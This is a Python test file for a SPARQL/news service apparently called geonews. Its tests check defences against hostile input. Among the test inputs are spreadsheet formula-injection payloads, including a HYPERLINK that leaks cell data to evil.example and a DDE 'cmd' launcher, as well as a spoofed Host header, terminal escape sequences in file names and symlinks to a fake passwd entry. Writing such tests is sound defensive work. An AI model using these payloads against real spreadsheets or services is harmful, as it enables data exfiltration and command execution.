"""Hardening, hostile input, spreadsheets, conditional requests and clean-up.

Each test is named after a weakness of the security review and would fail on it. Servers are real
`geonews serve` processes on loopback; "other clients" connect from other loopback addresses
(127.0.0.2, ...), which is how the per-client limits tell clients apart.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pyoxigraph as ox
import pytest
from click.testing import CliRunner

from geonews.cli import main

GEONEWS = [sys.executable, "-m", "geonews.cli"]
GOOD = "Russia and Turkey agree on Idlib\n\nRussia and Turkey signed the Moscow Accord on March 5.\n"


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


# -- 5., 6., 9. hostile input to ingest ----------------------------------------------------------
def _titles(store: Path) -> list[str]:
    s = ox.Store.read_only(str(store))
    return sorted(r["t"].value for r in s.query(
        "SELECT ?t WHERE { GRAPH ?g { ?a a <https://w3id.org/geonews/ontology#Article> ; "
        "<http://purl.org/dc/terms/title> ?t } }"))


@pytest.mark.slow
def test_one_hostile_file_does_not_lose_the_batch(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / "nested.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    (folder / "bigint.json").write_text('{"id": ' + "9" * 5000 + ', "text": "Turkey."}', encoding="utf-8")
    (folder / "deep.jsonl").write_text('{"a": ' * 50_000 + "1" + "}" * 50_000 + "\n", encoding="utf-8")
    store = tmp_path / "store"
    result = CliRunner().invoke(main, ["ingest", "--store", str(store), str(folder)])
    assert result.exit_code == 2, result.output
    for name in ("nested.json", "bigint.json", "deep.jsonl"):
        assert f"{name}" in result.stderr and "invalid JSON" in result.stderr
    assert "Traceback" not in result.output + result.stderr
    assert _titles(store) == ["Russia and Turkey agree on Idlib"]


@pytest.mark.slow
def test_a_folder_walk_does_not_follow_links_out_of_the_folder(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n\nsecret text of another folder\n")
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    (folder / "good.txt").write_text(GOOD, encoding="utf-8")
    (folder / "passwd.txt").symlink_to(secret)
    (folder / "linked-dir").symlink_to(outside, target_is_directory=True)
    (folder / "sub" / "inside.txt").symlink_to(folder / "good.txt")  # inside: fine
    store = tmp_path / "store"
    result = CliRunner().invoke(main, ["ingest", "--store", str(store), str(folder)])
    assert result.exit_code == 0, result.output
    assert "passwd.txt: left out: a symbolic link to a file outside the folder" in result.stderr
    assert "linked-dir: left out: a symbolic link to a folder" in result.stderr
    assert all("root:x" not in t for t in _titles(store))
    # a path named explicitly is read as given, link or not
    result = CliRunner().invoke(main, ["ingest", "--store", str(store), str(folder / "passwd.txt")])
    assert result.exit_code == 0 and "root:x:0:0:root:/root:/bin/bash" in _titles(store)


@pytest.mark.slow
def test_control_characters_in_file_names_are_escaped(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "evil\x1b[2J\rpublished 999 facts.txt").write_text("")
    result = CliRunner().invoke(main, ["ingest", "--store", str(tmp_path / "store"), str(folder)])
    assert result.exit_code == 2
    assert "\x1b" not in result.stderr and "\r" not in result.stderr
    assert "evil\\x1b[2J\\x0dpublished 999 facts.txt: skipped: empty file" in result.stderr


# -- 7. spreadsheet formulas --------------------------------------------------------------------
FORMULAS = ('SELECT ?x ?n WHERE { VALUES (?x ?n) { '
            '("=HYPERLINK(\\"http://evil.example/?x=\\"&A1,\\"Click\\")" -3) '
            '("+cmd|\' /C calc\'!A0" 1) ("@SUM(A1:A2)" 2) ("-2+3" 3) ("\\tx" 4) ("safe" 5) } }')


@pytest.mark.slow
def test_csv_cells_that_spreadsheets_would_run_are_neutralised(loopback, live_server):
    code, headers, body = loopback.sparql_get(live_server, FORMULAS, accept="text/csv")
    assert code == 200
    rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
    assert rows[0] == ["x", "n"]
    cells = [r[0] for r in rows[1:]]
    assert cells[:5] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0",
                         "'@SUM(A1:A2)", "'-2+3", "'\tx"]
    assert cells[5] == "safe" and rows[1][1] == "-3"  # a number is not a formula


@pytest.mark.slow
def test_tsv_cells_that_spreadsheets_would_run_are_neutralised(loopback, live_server):
    code, _, body = loopback.sparql_get(live_server, FORMULAS, accept="text/tab-separated-values")
    assert code == 200
    lines = body.decode("utf-8").rstrip("\n").split("\n")
    cells = [line.split("\t")[0] for line in lines[1:]]
    assert all(c.startswith("\"'") for c in cells[:4]), cells
    assert cells[4] == '"\\tx"'  # TSV itself escapes a tab inside a literal: no live tab
    assert cells[5] == '"safe"' and lines[1].split("\t")[1] == "-3"


# -- 8. conditional requests and the Host header -------------------------------------------------
@pytest.mark.slow
def test_if_none_match_star_on_a_missing_entity_is_404(loopback, live_server):
    code, _, _ = loopback.request(f"{live_server}/doc/state/no-such-state", headers={"If-None-Match": "*"})
    assert code == 404
    code, _, body = loopback.request(f"{live_server}/doc/state/turkey", headers={"If-None-Match": "*"})
    assert code == 304 and body == b""


@pytest.mark.slow
def test_the_host_header_is_never_reflected(loopback, live_server):
    code, headers, body = loopback.request(f"{live_server}/sparql", headers={"Accept": "text/turtle",
                                                                    "Host": "evil.example"})
    assert code == 200 and b"evil.example" not in body
    assert f"<{live_server}/sparql>".encode() in body


@pytest.mark.slow
def test_a_failed_precondition_does_not_send_the_dump(loopback, live_server):
    code, _, body = loopback.request(f"{live_server}/dumps/all.nq", headers={"If-Match": '"not-this-one"'})
    assert code == 412 and len(body) < 200 and b"<http" not in body


# -- 9. the dump cache is removed on SIGTERM ---------------------------------------------------
@pytest.mark.slow
def test_no_temporary_dump_files_remain_after_sigterm(loopback, seed_store, tmp_path):
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    orphan = tmp / "geonews-dumps-999999999-old"  # left by a server killed with -9
    orphan.mkdir()
    port = free_port()
    env = {**os.environ, "TMPDIR": str(tmp), "GEONEWS_STORE": str(seed_store[0]),
           "GEONEWS_BASE": f"http://127.0.0.1:{port}"}
    proc = subprocess.Popen([*GEONEWS, "serve", "--port", str(port)], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                code, _, body = loopback.request(f"http://127.0.0.1:{port}/dumps/all.nq.gz")
                break
            except OSError:
                assert time.monotonic() < deadline and proc.poll() is None
                time.sleep(0.2)
        assert code == 200 and body
        assert list(tmp.glob("geonews-dumps-*/*all.nq.gz")), "the dump was not cached"
        assert not orphan.exists()
        proc.send_signal(signal.SIGTERM)
        assert proc.wait(timeout=20) == 0
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert list(tmp.glob("geonews-dumps-*")) == []
